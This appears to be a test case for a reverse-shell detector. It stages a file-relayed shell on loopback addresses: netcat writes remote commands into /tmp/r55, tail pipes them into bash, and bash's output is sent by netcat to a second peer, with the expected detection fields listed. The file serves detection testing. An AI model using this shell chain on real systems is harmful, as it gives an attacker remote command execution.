# R55: a shell gets commands from a file that a peer fills, and what it writes goes to another peer
# stage: equipped
# within: 3500 ms
# expect: reverse_shell_detected
#   detection.reason: ~→ file /tmp/r55 →
#   detection.confidence: low
#   reverse_shell.process_list.length: 4
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4658
#   reverse_shell.process_list.3.process_id: $shell

#: prepare
. lib/peers.sh
commander 4658 300 id
peer 4659
: > /tmp/r55
#: act
. lib/peers.sh
act
nc.openbsd -d 127.0.0.1 4658 < /dev/null >> /tmp/r55 2> /dev/null &
(tail -f -s 0.1 /tmp/r55 | bash -s r55 2>&1 | nc.openbsd 127.0.0.2 4659) \
  < /dev/null > /dev/null 2>&1 &
who shell 'bash -s r55'
#: clean
pkill -f '^tail -f -s 0.1 /tmp/r55' || true
rm /tmp/r55
